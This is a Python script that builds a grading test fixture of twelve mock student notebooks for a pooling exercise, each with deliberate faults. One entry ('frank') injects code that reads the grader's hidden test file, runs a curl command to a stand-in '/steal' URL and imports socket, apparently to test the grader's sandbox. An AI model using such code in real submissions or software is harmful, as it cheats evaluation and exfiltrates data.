"""Write the class of tests/grading_class/: twelve 05_pooling submissions.

A small class as a course would see it, graded by tests/test_grading.py
(`test_a_class_of_twelve`) and by hand with

    .venv/bin/python -m convlib.grading grade tests/grading_class \\
        --exercise 05_pooling --out /tmp/class --load-timeout 3

Each student's notebook is the source notebook with the solutions kept
(``### BEGIN/END SOLUTION`` removed) and some cells rewritten, as
students err. Rerun after the 05_pooling source changes:

    .venv/bin/python tests/grading_class/make_class.py
"""
import json
import re
from pathlib import Path

HERE = Path(__file__).resolve().parent
SOURCES = HERE.parents[1] / "exercises" / "source"
MARKERS = ("### BEGIN SOLUTION", "### END SOLUTION")

STUDENTS = {
    # alice: every function right (a folder named after her)
    "alice/05_pooling": {},
    # bob: count_include_pad ignored; '=' instead of adding up the
    # gradients of overlapping windows
    "bob_05_pooling": {
        "avg_pool2d": [("real[rows, cols].sum()", "k * k")],
        "max_pool2d_backward": [
            ("c0 + best % k] += \\", "c0 + best % k] = \\")]},
    # carol: results in float32 (right within float32's rounding)
    "carol_05_pooling": {
        "max_pool2d": [("np.empty((n, c, h_out, w_out))",
                        "np.empty((n, c, h_out, w_out), np.float32)")],
        "adaptive_avg_pool2d": [("np.empty((n, c, oh, ow))",
                                 "np.empty((n, c, oh, ow), np.float32)")]},
    # dave: a max_pool2d far too slow (3 s a call; its budget is 2 s)
    "dave_05_pooling": {
        "max_pool2d": [('    x (N, C, H, W) -> (out, indices), both '
                        '(N, C, H_out, W_out).\n    """',
                        '    x (N, C, H, W) -> (out, indices), both '
                        '(N, C, H_out, W_out).\n    """\n    import time\n'
                        '    time.sleep(3)')]},
    # erin: an error in a helper, and a crash of the Python process
    "erin_05_pooling": {
        "adaptive_bins": [("    return [(i * in_size // out_size, "
                           "-(-(i + 1) * in_size // out_size))\n"
                           "            for i in range(out_size)]",
                           "    return [_bin(i, in_size, out_size)\n"
                           "            for i in range(out_size)]\n\n\n"
                           "def _bin(i, in_size, out_size):\n"
                           "    edges = [k * in_size // out_size "
                           "for k in range(out_size)]\n"
                           "    return edges[i], edges[i + 1]")],
        "adaptive_avg_pool2d": [('    oh, ow = output_size\n',
                                 '    import faulthandler  # as a broken C '
                                 'extension would\n'
                                 '    faulthandler._sigsegv()\n'
                                 '    oh, ow = output_size\n')]},
    # frank: hostile: reads the hidden tests, runs a shell, the network
    "frank_05_pooling": {
        "max_pool2d": [('    stride = kernel_size if stride is None '
                        'else stride\n',
                        '    import os\n    site = os.path.dirname(os.path'
                        '.dirname(np.__file__))\n    open(os.path.join('
                        'site, "convlib", "grading", "hidden",\n'
                        '                  "ex05_pooling.py")).read()\n'
                        '    stride = kernel_size if stride is None '
                        'else stride\n', 1)],
        "avg_pool2d": [('    stride = kernel_size if stride is None '
                        'else stride\n',
                        '    import os\n    os.system("curl -s '
                        'http://example.com/steal")\n'
                        '    stride = kernel_size if stride is None '
                        'else stride\n', 1)],
        "adaptive_bins": [('    return [', '    import socket\n'
                           '    return [')]},
    # judy: right, but her own slow test left at a cell's top level
    "judy_05_pooling": {
        "max_pool2d": [("    return out, indices",
                        "    return out, indices\n\n\n"
                        "total = 0  # my own test, far too slow\n"
                        "for trial in range(10 ** 9):\n"
                        "    total += trial")]},
    # oscar: off by one with ceil_mode, a number typed np.float64, and
    # max_pool2d without its indices
    "oscar_05_pooling": {
        "pool_output_size": [("    if (out - 1) * stride >= n + padding:\n"
                              "        out -= 1\n", ""),
                             ("    return out", "    return np.float64(out)")],
        "max_pool2d": [("    return out, indices", "    return out")]},
}
# grace: her 06_linear notebook, renamed for 05_pooling
GRACE = "grace_05_pooling"
# heidi: metadata lost, file renamed (no exercise ID), pool_output_size
# without ceil_mode's rule
HEIDI = "heidi"
# ivan: a file cut short (an interrupted upload)
IVAN = "ivan_05_pooling"
# mallory: the released notebook, untouched
MALLORY = "mallory_05_pooling"


def _text(source):
    return "".join(source) if isinstance(source, list) else source


def solved(name):
    """The source notebook `name` with its solutions kept, as a dict."""
    nb = json.loads((SOURCES / f"{name}.ipynb").read_text())
    for cell in nb["cells"]:
        cell["source"] = "\n".join(
            line for line in _text(cell["source"]).split("\n")
            if line.strip() not in MARKERS)
        if cell["cell_type"] == "code":
            cell["outputs"], cell["execution_count"] = [], None
    return nb


def _cell_of(nb, function):
    for cell in nb["cells"]:
        if re.search(rf"^def {function}\(", _text(cell["source"]), re.M):
            return cell
    raise KeyError(function)


def edited(changes):
    nb = solved("05_pooling")
    for function, edits in changes.items():
        cell = _cell_of(nb, function)
        for old, new, *count in edits:
            assert old in cell["source"], (function, old)
            cell["source"] = cell["source"].replace(old, new, *count)
    return nb


def _write(folder, name, nb):
    path = folder / f"{name}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n")


def main(folder=HERE):
    """Write the twelve notebooks into `folder`."""
    folder = Path(folder)
    for name, changes in STUDENTS.items():
        _write(folder, name, edited(changes))
    _write(folder, GRACE, solved("06_linear"))
    heidi = edited({"pool_output_size": [
        ("    out = -(-room // stride) + 1\n",
         "    out = room // stride + 1\n"),
        ("    if (out - 1) * stride >= n + padding:\n"
         "        out -= 1\n", "")]})
    heidi["metadata"].pop("convlib")
    _write(folder, HEIDI, heidi)
    text = json.dumps(solved("05_pooling"), indent=1)
    (folder / f"{IVAN}.ipynb").write_text(text[:len(text) // 3])
    released = SOURCES.parent / "05_pooling.ipynb"
    (folder / f"{MALLORY}.ipynb").write_text(released.read_text())


if __name__ == "__main__":
    main()
